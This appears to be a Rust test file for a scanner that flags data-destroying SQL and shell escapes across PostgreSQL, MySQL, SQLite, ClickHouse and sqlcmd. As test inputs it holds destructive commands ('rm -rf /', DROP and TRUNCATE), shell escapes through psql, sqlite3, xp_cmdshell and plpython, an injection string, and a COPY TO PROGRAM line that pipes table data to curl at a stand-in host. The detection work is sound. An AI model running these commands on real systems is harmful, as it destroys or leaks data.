use super::{SqlDialect, scan};
use crate::datastore::{DataLoss, Unreadable};

use DataLoss::*;
use SqlDialect::*;

fn losses(text: &str, d: SqlDialect) -> Vec<DataLoss> {
    let s = scan(text, d);
    assert_eq!(
        s.unreadable, None,
        "unexpectedly unreadable: {text:?} as {d:?}"
    );
    s.losses
}

fn unreadable(text: &str, d: SqlDialect) -> Option<Unreadable> {
    scan(text, d).unreadable
}

const ALL: [SqlDialect; 9] = [
    Postgres,
    Psql,
    MySql,
    MySqlClient,
    Sqlite,
    Sqlite3Shell,
    ClickHouse,
    Sqlcmd,
    Unknown,
];

#[test]
fn a_dropped_column_or_partition_loses_its_data() {
    for d in ALL {
        for sql in [
            "ALTER TABLE users DROP COLUMN email",
            "alter table users drop email",
            "ALTER TABLE IF EXISTS users DROP COLUMN IF EXISTS email CASCADE",
            "ALTER TABLE users DROP IF EXISTS email",
            "ALTER TABLE users ADD COLUMN x int, DROP COLUMN email",
            "ALTER TABLE logs DROP PARTITION p2020",
        ] {
            assert_eq!(losses(sql, d), [DropColumn], "{sql} {d:?}");
        }
        for sql in [
            "ALTER TABLE users DROP CONSTRAINT users_email_key",
            "ALTER TABLE users ALTER COLUMN email DROP NOT NULL",
            "ALTER TABLE users ALTER COLUMN email DROP DEFAULT",
            "ALTER TABLE users DROP INDEX idx_email",
            "ALTER TABLE users DROP PRIMARY KEY",
            "ALTER TABLE users DROP FOREIGN KEY fk",
            "ALTER TABLE users ADD COLUMN email text",
            "ALTER TABLE users RENAME COLUMN a TO b",
            "ALTER USER app WITH PASSWORD 'x'",
            "DROP INDEX idx_email",
        ] {
            assert!(losses(sql, d).is_empty(), "{sql} {d:?}");
        }
    }
}

#[test]
fn drops_and_truncates_in_every_dialect() {
    for d in ALL {
        assert_eq!(losses("DROP DATABASE appdb", d), [DropDatabase], "{d:?}");
        assert_eq!(losses("drop schema public cascade;", d), [DropSchema]);
        assert_eq!(losses("DROP TABLE IF EXISTS users;", d), [DropTable]);
        assert_eq!(losses("  Drop\n\tTable users", d), [DropTable]);
        assert_eq!(losses("TRUNCATE users", d), [Truncate]);
        assert_eq!(
            losses("truncate table users restart identity", d),
            [Truncate]
        );
        assert_eq!(
            losses("BEGIN; DROP TABLE a; TRUNCATE b; COMMIT;", d),
            [DropTable, Truncate]
        );
    }
}

#[test]
fn delete_and_update_without_where() {
    for d in ALL {
        assert_eq!(
            losses("DELETE FROM users", d),
            [DeleteWithoutWhere],
            "{d:?}"
        );
        assert_eq!(losses("delete from users;", d), [DeleteWithoutWhere]);
        assert_eq!(
            losses("UPDATE users SET admin = true", d),
            [UpdateWithoutWhere]
        );
        assert_eq!(
            losses("UPDATE t SET a = (SELECT max(b) FROM u WHERE u.id = 1)", d),
            [UpdateWithoutWhere],
            "a WHERE inside a subquery does not limit the UPDATE"
        );
        assert_eq!(
            losses("DELETE FROM t WHERE id = 1; DELETE FROM u", d),
            [DeleteWithoutWhere]
        );
    }
}

#[test]
fn near_misses_pass() {
    for d in ALL {
        for text in [
            "SELECT 1",
            "select * from users where id = 1",
            "DELETE FROM users WHERE id = 1",
            "DELETE FROM users WHERE id IN (SELECT id FROM old)",
            "UPDATE users SET name = 'x' WHERE id = 42 RETURNING *",
            "INSERT INTO log VALUES ('DROP TABLE users')",
            "SELECT 'DELETE FROM users'",
            "-- DROP TABLE users\nSELECT 1",
            "/* TRUNCATE users */ SELECT 1",
            "SELECT * FROM t FOR UPDATE",
            "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2",
            "CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE ON UPDATE CASCADE)",
            "DROP INDEX idx_users_name",
            "DROP VIEW v",
            "CREATE TABLE drop_table (x int)",
            "SELECT truncate_me FROM t",
            "DELETE FROM t WHERE 1 = 2",
            "DELETE FROM t WHERE id = 1 OR id = 2",
            "",
            ";;",
        ] {
            assert_eq!(losses(text, d), [], "{text:?} as {d:?}");
        }
    }
}

#[test]
fn always_true_conditions_count_as_no_where() {
    for text in [
        "DELETE FROM t WHERE 1=1",
        "DELETE FROM t WHERE TRUE",
        "delete from t where 1",
        "DELETE FROM t WHERE id = 5 OR 1 = 1",
        "DELETE FROM t WHERE 'a' = 'a'",
        "DELETE FROM t WHERE NOT FALSE",
        "DELETE FROM t WHERE id = id",
        "UPDATE t SET a = 1 WHERE 1 = 1 RETURNING *",
    ] {
        assert!(
            !losses(text, Unknown).is_empty(),
            "{text:?} should lose every row"
        );
    }
    assert_eq!(losses("DELETE FROM t WHERE 1=1 AND id = 3", Unknown), []);
    assert_eq!(losses("DELETE FROM t WHERE (1=1) AND x", Unknown), []);
}

#[test]
fn statements_inside_common_table_expressions_and_explain() {
    assert_eq!(
        losses(
            "WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d",
            Postgres
        ),
        [DeleteWithoutWhere]
    );
    assert_eq!(
        losses("WITH old AS (SELECT id FROM t) DELETE FROM t", Postgres),
        [DeleteWithoutWhere]
    );
    assert_eq!(
        losses(
            "WITH old AS (SELECT id FROM t WHERE x) DELETE FROM t WHERE id IN (SELECT id FROM old)",
            Postgres
        ),
        []
    );
    assert_eq!(
        losses("EXPLAIN (ANALYZE) DELETE FROM t", Postgres),
        [DeleteWithoutWhere]
    );
    assert_eq!(
        losses("EXPLAIN ANALYZE UPDATE t SET a = 1", Postgres),
        [UpdateWithoutWhere]
    );
}

#[test]
fn quoting_rules_of_each_dialect() {
    // A backslash escapes the quote in MySQL, so the DROP is inside the string there; in
    // PostgreSQL the string ends at the backslash and the DROP runs.
    let tricky = r"SELECT 'a\'; DROP TABLE users; -- '";
    assert_eq!(losses(tricky, MySql), []);
    assert_eq!(losses(tricky, Postgres), [DropTable]);
    assert_eq!(losses(tricky, Unknown), [DropTable]);
    // Escape strings in PostgreSQL.
    assert_eq!(losses(r"SELECT E'a\'; DROP TABLE x; --'", Postgres), []);
    // Dollar quoting.
    assert_eq!(losses("SELECT $$ DROP TABLE x; $$", Postgres), []);
    assert_eq!(losses("SELECT $t$ it's; DROP TABLE x $t$", Postgres), []);
    assert_eq!(losses("SELECT $1; DROP TABLE x", Postgres), [DropTable]);
    // Quoted identifiers are names, not keywords.
    assert_eq!(losses(r#"SELECT "DELETE" FROM t"#, Postgres), []);
    assert_eq!(losses("SELECT `DROP TABLE x` FROM t", MySql), []);
    assert_eq!(losses("SELECT [DROP TABLE x] FROM t", Sqlite), []);
    // MySQL double-quoted strings.
    assert_eq!(losses(r#"SELECT "it\"s; DROP TABLE x""#, MySql), []);
    // A backtick is no quote in PostgreSQL.
    assert_eq!(losses("SELECT `; DROP TABLE x; --`", Postgres), [DropTable]);
}

#[test]
fn comment_rules_of_each_dialect() {
    // PostgreSQL block comments nest; MySQL's end at the first `*/`.
    let nested = "/* /* */ DROP TABLE x; */ SELECT 1";
    assert_eq!(losses(nested, Postgres), []);
    assert_eq!(
        scan(nested, MySql).losses,
        [DropTable],
        "MySQL runs the DROP"
    );
    // MySQL needs a space after `--`; `#` is a comment there only.
    assert_eq!(losses("SELECT 1 --1; DROP TABLE x", MySql), [DropTable]);
    assert_eq!(losses("SELECT 1 --1; DROP TABLE x", Postgres), []);
    assert_eq!(losses("SELECT 1 -- DROP TABLE x", MySql), []);
    assert_eq!(losses("SELECT 1 # DROP TABLE x", MySql), []);
    // MySQL runs what is inside `/*! … */`.
    assert_eq!(losses("/*!50000 DROP TABLE x */", MySql), [DropTable]);
    assert_eq!(losses("/*M! TRUNCATE t */", MySql), [Truncate]);
    assert_eq!(losses("/*+ hint */ SELECT 1", MySql), []);
    // SQLite lets a comment run to the end.
    assert_eq!(losses("SELECT 1 /* DROP TABLE x", Sqlite), []);
    assert_eq!(
        unreadable("SELECT 1 /* DROP TABLE x", Postgres),
        Some(Unreadable::UnterminatedComment)
    );
}

#[test]
fn unterminated_quotes_are_unreadable_and_earlier_losses_still_count() {
    let s = scan("DROP TABLE a; SELECT 'open", Postgres);
    assert_eq!(s.losses, [DropTable]);
    assert_eq!(s.unreadable, Some(Unreadable::UnterminatedQuote));
    assert_eq!(
        unreadable("SELECT $x$ never", Postgres),
        Some(Unreadable::UnterminatedQuote)
    );
    // Readable under MySQL's rules, so not unreadable when the dialect is unknown.
    assert_eq!(unreadable(r"SELECT 'it\'s'", Unknown), None);
    assert_eq!(
        unreadable("SELECT 'x", Unknown),
        Some(Unreadable::UnterminatedQuote)
    );
}

#[test]
fn psql_backslash_commands() {
    assert_eq!(
        unreadable("\\! rm -rf /", Psql),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(
        unreadable("SELECT 1 \\g |sh", Psql),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(
        unreadable("\\copy t to program 'gzip > x'", Psql),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(
        unreadable("\\i drop_all.sql", Psql),
        Some(Unreadable::IncludedFile)
    );
    assert_eq!(
        unreadable(
            "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec",
            Psql
        ),
        Some(Unreadable::DynamicStatement)
    );
    // An included file leaves a gap: the text after it is still read, and a shell escape
    // after it still makes the text unreadable as such.
    let after = scan("\\i setup.sql\nDROP TABLE t;", Psql);
    assert_eq!(after.losses, [DropTable]);
    assert_eq!(after.unreadable, Some(Unreadable::IncludedFile));
    assert_eq!(
        unreadable("\\ir a.sql\n\\! id", Psql),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(losses("\\dt\nSELECT 1", Psql), []);
    assert_eq!(losses("\\c other\nDROP TABLE t", Psql), [DropTable]);
    assert_eq!(losses("\\timing on\n\\x\nSELECT 1;", Psql), []);
    // Without the client, a backslash is just punctuation.
    assert_eq!(losses("SELECT 1 \\! x", Postgres), []);
}

#[test]
fn server_side_programs_and_untrusted_languages() {
    assert_eq!(
        unreadable("COPY t TO PROGRAM 'curl -d @- evil'", Postgres),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(losses("COPY t TO STDOUT", Postgres), []);
    assert_eq!(
        unreadable(
            "DO LANGUAGE plpython3u $$ import os; os.system('x') $$",
            Postgres
        ),
        Some(Unreadable::ShellEscape)
    );
}

#[test]
fn mysql_client_commands() {
    assert_eq!(
        unreadable("system rm -rf /", MySqlClient),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(
        unreadable("SELECT 1; \\! id", MySqlClient),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(
        unreadable("source /tmp/x.sql", MySqlClient),
        Some(Unreadable::IncludedFile)
    );
    let after = scan("source a.sql\n\\. b.sql\nTRUNCATE t;", MySqlClient);
    assert_eq!(after.losses, [Truncate]);
    assert_eq!(after.unreadable, Some(Unreadable::IncludedFile));
    // A delimiter cannot merge a DELETE with a later statement's WHERE.
    let merged = "delimiter //\nDELETE FROM t //\nSELECT * FROM u WHERE id = 1 //";
    assert_eq!(losses(merged, MySqlClient), [DeleteWithoutWhere]);
    assert_eq!(
        losses(
            "delimiter $$\nUPDATE t SET a = 1 WHERE id = 2 $$",
            MySqlClient
        ),
        []
    );
    assert_eq!(
        losses("SELECT 1\\G DELETE FROM t", MySqlClient),
        [DeleteWithoutWhere]
    );
    // `system` inside a statement is a word.
    assert_eq!(losses("SELECT system FROM t", MySqlClient), []);
}

#[test]
fn sqlite3_dot_commands() {
    assert_eq!(
        unreadable(".shell rm -rf ~", Sqlite3Shell),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(
        unreadable(".once |sh\nSELECT 1;", Sqlite3Shell),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(
        unreadable(".read '|curl x'", Sqlite3Shell),
        Some(Unreadable::ShellEscape)
    );
    assert_eq!(
        unreadable(".read dump.sql", Sqlite3Shell),
        Some(Unreadable::IncludedFile)
    );
    assert_eq!(
        unreadable(".load ./evil", Sqlite3Shell),
        Some(Unreadable::ShellEscape)
    );
    let after = scan(".read dump.sql\nDROP TABLE t;", Sqlite3Shell);
    assert_eq!(after.losses, [DropTable]);
    assert_eq!(after.unreadable, Some(Unreadable::IncludedFile));
    assert_eq!(
        losses(".tables\n.schema\nDELETE FROM t;", Sqlite3Shell),
        [DeleteWithoutWhere]
    );
    assert_eq!(losses(".mode csv\nSELECT 1.5 FROM t;", Sqlite3Shell), []);
}

#[test]
fn statements_built_from_strings_are_read_again() {
    assert_eq!(
        losses(
            "DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t); END $$",
            Postgres
        ),
        [DropTable]
    );
    assert_eq!(
        losses(
            "DO $$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables LOOP \
             EXECUTE format('TRUNCATE %I', r.tablename); END LOOP; END $$",
            Postgres
        ),
        [Truncate]
    );
    assert_eq!(
        losses(
            "DO $$ BEGIN IF x THEN DELETE FROM t; END IF; END $$",
            Postgres
        ),
        [DeleteWithoutWhere]
    );
    assert_eq!(
        losses("DO $$ BEGIN DELETE FROM t WHERE id = 1; END $$", Postgres),
        []
    );
    assert_eq!(
        losses("PREPARE s FROM 'DELETE FROM t'; EXECUTE s;", MySql),
        [DeleteWithoutWhere]
    );
    assert_eq!(
        losses(
            "PREPARE s FROM 'DELETE FROM t WHERE id = ?'; EXECUTE s USING @id;",
            MySql
        ),
        []
    );
    assert_eq!(
        unreadable("SET @q = 'x'; PREPARE s FROM @q; EXECUTE s;", MySql),
        Some(Unreadable::DynamicStatement)
    );
    assert_eq!(
        losses("PREPARE p AS DELETE FROM t; EXECUTE p;", Postgres),
        [DeleteWithoutWhere]
    );
    assert_eq!(
        losses(
            "EXECUTE 'DELETE FROM ' || t || ' WHERE id = ' || x",
            Postgres
        ),
        [],
        "literals joined: the WHERE of a later literal counts"
    );
    assert_eq!(
        losses(
            "CREATE FUNCTION f() RETURNS void AS $$ TRUNCATE t $$ LANGUAGE sql",
            Postgres
        ),
        [Truncate]
    );
    // Escaped quotes inside a literal are undone before it is read again.
    assert_eq!(
        losses("EXECUTE 'DELETE FROM t WHERE a = ''x'''", Postgres),
        []
    );
}

#[test]
fn nesting_stops_at_a_fixed_depth() {
    let mut text = "DROP TABLE x".to_string();
    for _ in 0..6 {
        text = format!("EXECUTE '{}'", text.replace('\'', "''"));
    }
    let s = scan(&text, Postgres);
    assert_eq!(s.unreadable, Some(Unreadable::TooDeep));
}

#[test]
fn pathological_input_is_linear() {
    // These would take quadratic time if any step rescanned the text.
    for unit in [
        ";", "(", ")", "$", "'' ", "-", "a ", ". ;", "/", "\\\\", "$a ",
    ] {
        let text = unit.repeat(20_000);
        for d in ALL {
            let _ = scan(&text, d);
        }
    }
    let deep = format!(
        "DELETE FROM t WHERE {}1{}",
        "(".repeat(20_000),
        ")".repeat(20_000)
    );
    assert_eq!(losses(&deep, Postgres), []);
}

#[test]
fn case_and_unicode_do_not_confuse_the_reader() {
    assert_eq!(losses("dRoP tAbLe x", MySql), [DropTable]);
    assert_eq!(losses("SELECT 'é'; DROP TABLE ü", Postgres), [DropTable]);
    assert_eq!(losses("SELECT ünïcode FROM t", Postgres), []);
}

#[test]
fn dropped_accounts_and_owned_objects() {
    for d in ALL {
        for sql in [
            "DROP USER alice",
            "drop role admin",
            "DROP ROLE IF EXISTS admin",
            "DROP USER 'bob'@'%'",
            "DROP USER \"bob\"",
            "DROP GROUP staff",
            "DROP LOGIN app",
            "SELECT 1; DROP USER a, b",
        ] {
            assert_eq!(losses(sql, d), [DropRole], "{sql} {d:?}");
        }
        assert_eq!(losses("DROP OWNED BY app CASCADE", d), [DropOwned], "{d:?}");
        for sql in [
            "CREATE USER alice",
            "CREATE ROLE admin LOGIN",
            "ALTER USER app WITH PASSWORD 'x'",
            "REVOKE ALL ON DATABASE app FROM bob",
            "DROP USER MAPPING FOR app SERVER s",
            "SELECT 'DROP USER x'",
            "SELECT rolname FROM pg_roles",
            "DROP INDEX user_idx",
        ] {
            assert!(losses(sql, d).is_empty(), "{sql} {d:?}");
        }
    }
}

#[test]
fn sqlcmd_commands() {
    for text in [
        "!! rm -rf ~",
        ":!! del /q c:\\data",
        "SELECT 1\n  !!dir",
        "SELECT 1\nGO\n:ED",
        // sqlcmd reads its commands before the SQL: a string does not hide them.
        "SELECT '\n!! id\n'",
        "EXEC xp_cmdshell 'dir'",
        "EXEC sp_execute_external_script @language = N'Python', @script = N'x'",
    ] {
        assert_eq!(
            unreadable(text, Sqlcmd),
            Some(Unreadable::ShellEscape),
            "{text:?}"
        );
    }
    // An included script is not read, as `sqlcmd -i` is not; the text around it is.
    let s = scan(":r setup.sql\nDROP TABLE t\nGO", Sqlcmd);
    assert_eq!(s.losses, [DropTable]);
    assert_eq!(s.unreadable, Some(Unreadable::IncludedFile));
    for text in [
        "SELECT name FROM sys.databases",
        ":setvar db app\nUSE $(db)\nGO",
        "SELECT 1 AS [!! x]",
        "SELECT ed FROM t",
        "PRINT 'a'\nGO 2",
        "SELECT [a]]b] FROM t -- !! x",
    ] {
        assert!(scan(text, Sqlcmd).is_clean(), "{text:?}");
    }
    assert_eq!(
        losses(":setvar t x\nDROP TABLE $(t)\nGO", Sqlcmd),
        [DropTable]
    );
}
